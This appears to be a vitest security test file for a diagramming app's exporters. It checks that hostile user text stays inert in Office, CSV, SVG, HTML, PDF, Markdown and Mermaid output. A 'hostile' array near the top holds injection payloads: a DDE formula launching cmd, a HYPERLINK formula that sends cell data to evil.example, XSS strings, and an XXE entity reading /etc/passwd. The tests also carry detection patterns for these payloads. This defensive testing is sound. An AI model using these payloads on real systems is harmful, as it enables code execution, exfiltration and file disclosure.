import os from 'node:os';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { makeExport } from '../../../main/export/make-export';
import { type ExportFormat, exportFormats } from '../../../shared/export/formats';
import { readXml } from '../../../shared/import/xml';
import type { Project } from '../../../shared/model/project';
import { exportWish } from '../../helpers/export-wish';
import { fullProject } from '../../helpers/full-project';
import { converted, hasOffice } from '../../helpers/recalculate';
import { tell } from '../../helpers/tell';

const hostile = [
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example/?"&A1,"x")',
  '@SUM(1+1)*cmd',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  'javascript:alert(1)//"onmouseover="alert(3)',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  'a\u0000b\u0007c\ud800d\uffffe\u202etxt.exe',
  `${'long '.repeat(1000)}end`,
  '{{constructor.constructor("alert(1)")()}} ${7*7} %24 \\x41',
  '"]; click n1 "http://evil.example" %%{init: {"securityLevel":"loose"}}%%',
] as const;

const sometimes = [
  'name',
  'note',
  'purpose',
  'owner',
  'by',
  'measure',
  'baseline',
  'target',
  'team',
  'voter',
  'label',
];

/** The project with every free text replaced by something that a careless writer would let loose. */
function hostileProject(): Project {
  let count = 0;
  const replaced = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      if (!sometimes.includes(key)) return value;
      count += 1;
      return hostile[count % hostile.length];
    }
    if (value === null || typeof value !== 'object' || Array.isArray(value)) return value;
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, replaced(inner, name)]));
  };
  return replaced(fullProject, '') as Project;
}

const project = hostileProject();

const made = new Map<ExportFormat, Uint8Array>();
for (const format of exportFormats) made.set(format, (await makeExport(project, exportWish(format))).bytes);

const bytesOf = (format: ExportFormat): Uint8Array => made.get(format) ?? new Uint8Array();
const textOf = (format: ExportFormat): string => new TextDecoder().decode(bytesOf(format));
const ready = (...formats: ExportFormat[]): ExportFormat[] => formats.filter((each) => made.has(each));

describe('texts that mean harm', () => {
  it.each(ready('pptx', 'docx', 'xlsx'))(
    'leave the parts of a %s well-formed, without links to the outside and without macros',
    (format) => {
      const parts = unzipSync(bytesOf(format));
      expect(Object.keys(parts).filter((name) => /vba|macro|activeX|oleObject/i.test(name))).toEqual([]);
      for (const [name, part] of Object.entries(parts)) {
        if (!/\.(?:xml|rels)$/.test(name)) continue;
        const xml = strFromU8(part);
        expect(() => readXml(xml), name).not.toThrow();
        expect(xml, name).not.toMatch(/TargetMode="External"/);
      }
    },
  );

  it.each(ready('xlsx'))('never become a formula of a %s', (format) => {
    const parts = unzipSync(bytesOf(format));
    const formulas = Object.entries(parts)
      .filter(([name]) => name.startsWith('xl/worksheets/'))
      .flatMap(([, part]) =>
        [...strFromU8(part).matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, said]) => said ?? ''),
      );
    for (const formula of formulas) expect(formula).not.toMatch(/cmd|HYPERLINK|evil|DDE|WEBSERVICE/i);
  });

  it('begin no cell of a CSV with a sign that a spreadsheet computes', () => {
    const { data } = Papa.parse<string[]>(textOf('csv').trimEnd());
    const cells = data.flat();
    expect(cells.some((cell) => cell.startsWith("'="))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    tell(
      'S4',
      hostile.length,
      `hostile texts in the fields of a map, exported in ${exportFormats.length} formats: 0 live`,
    );
  });

  it.skipIf(!hasOffice)(
    'are computed by no spreadsheet program: LibreOffice finds no formula in a CSV, and none but ours in a workbook',
    () => {
      const sheetOf = (format: 'csv' | 'xlsx'): string =>
        new TextDecoder().decode(converted({ made: bytesOf(format) }, 'fods', format).get('made'));
      const formulas = (sheet: string): string[] => sheet.match(/table:formula="[^"]*"/g) ?? [];
      const csv = sheetOf('csv');
      expect(csv).toContain('=cmd|');
      expect(formulas(csv)).toEqual([]);
      const workbook = sheetOf('xlsx');
      expect(workbook).toContain('@SUM(1+1)*cmd');
      expect(formulas(workbook).length).toBeGreaterThan(0);
      expect(formulas(workbook).filter((each) => /cmd|HYPERLINK|evil|DDE|WEBSERVICE/i.test(each))).toEqual(
        [],
      );
      for (const sheet of [csv, workbook]) expect(sheet).not.toMatch(/<text:a |xlink:href="http:/);
      tell('S4', 2, 'of them read by LibreOffice: 0 foreign formulas');
    },
    300_000,
  );

  it.each(ready('svg', 'html', 'drawio', 'bpmn'))('are only text in %s', (format) => {
    const text = textOf(format);
    expect(text).not.toMatch(/<script|<img|<!ENTITY|<!DOCTYPE(?! html)|<foreignObject/);
    for (const tag of text.match(/<[a-zA-Z][^>]*>/g) ?? []) {
      // What stands between quotes is text; what is left of a tag holds no handler and no link to the outside.
      const bare = tag.replace(/"[^"]*"/g, '""');
      expect(bare).not.toMatch(/\son[a-z]+=/i);
      for (const [, target = ''] of tag.matchAll(/\s(?:href|xlink:href|src|link)="([^"]*)"/g))
        expect(target).toMatch(/^(?:#|data:)/);
    }
  });

  it.each(ready('svg', 'drawio', 'bpmn'))('leave %s well-formed', (format) => {
    expect(() => readXml(textOf(format))).not.toThrow();
  });

  it.each(ready('pdf', 'report-pdf'))('start nothing in a %s', (format) => {
    const text = Buffer.from(bytesOf(format)).toString('latin1');
    expect(text).not.toMatch(/\/(?:JavaScript|JS|Launch|URI|EmbeddedFile|OpenAction)\b/);
  });

  it('are no links, no markup and no commands in Markdown and Mermaid', () => {
    const markdown = textOf('md').replace(/```mermaid[\s\S]*?```/g, '');
    expect(markdown).not.toMatch(/(?<!\\)<(?:script|img)/);
    expect(markdown).not.toMatch(/(?<!\\)\]\((?!#)/);
    const [first, mark, ...lines] = textOf('mermaid').split('\n');
    // The one comment is the program's own; no text of the user makes another.
    expect([first, mark]).toEqual(['flowchart LR', '  %% Value-stream map of Streamwright']);
    for (const line of lines) expect(line.replace(/"[^"]*"/g, '')).not.toMatch(/click|%%|href|script/);
  });

  it.each(exportFormats)('do not bring a folder of the user into %s', (format) => {
    const bytes = Buffer.from(bytesOf(format));
    const contents = ['pptx', 'docx', 'xlsx'].includes(format)
      ? Object.values(unzipSync(bytes)).map((part) => Buffer.from(part).toString('latin1'))
      : [bytes.toString('latin1')];
    const secrets = [`${os.homedir()}/`, `${process.cwd()}/`].filter((secret) => secret.length > 3);
    expect(secrets.length).toBeGreaterThan(0);
    for (const secret of secrets) for (const content of contents) expect(content).not.toContain(secret);
    tell('S4', 1, 'kinds of exports without a folder of the user');
  });
});
